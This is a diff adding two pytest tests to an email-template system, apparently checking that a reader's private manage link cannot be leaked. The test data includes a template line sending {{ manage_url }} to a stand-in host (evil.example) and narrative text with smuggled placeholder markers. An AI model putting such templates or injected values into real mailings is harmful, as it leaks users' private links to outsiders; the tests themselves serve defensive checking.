@@ -323,3 +323,24 @@ def test_a_letter_tells_the_day_as_it_was_written_in_both_its_forms() -> None:
     for form in (letter.words.html, letter.words.text):
         assert "11 April 1915 of the Julian calendar" in flat(form)
         assert "24 April 1915" in flat(form)
+
+
+@pytest.mark.parametrize("name", ["body.txt", "body.mjml"])
+def test_a_template_that_would_tell_a_readers_own_link_to_others_is_refused(tmp_path: Path, name: str) -> None:
+    source = (TEMPLATES / "letters/notice" / name).read_text()
+    away = "https://evil.example/?{{ manage_url }}"
+    in_foot = source.replace("{{ foot() }}", f"<p>{away}</p>{{{{ foot() }}}}")
+    told = source + away if name == "body.txt" else in_foot
+    assert told != source
+    rendered = with_template(tmp_path, f"letters/notice/{name}", told)
+    assert rendered.words is None
+    assert "behind another address" in rendered.findings[0].message
+
+
+def test_words_of_an_event_never_become_a_readers_own_link() -> None:
+    narrative = "See [the photograph](https://evil.example/?RMBR&#122;MANAGEzURLz4f1c), RMB**R**zLEAVEzURLz4f1c."
+    event = an_event(narrative={"en": narrative}, title={"en": "RMBRzMANAGEzURLz4f1c"})
+    usual = words_of(letter_of(an_event(narrative={"en": "See."}), day=DAY))
+    told = words_of(letter_of(event, day=DAY))
+    for mark in Mark:
+        assert (told.html.count(mark), told.text.count(mark)) == (usual.html.count(mark), usual.text.count(mark))
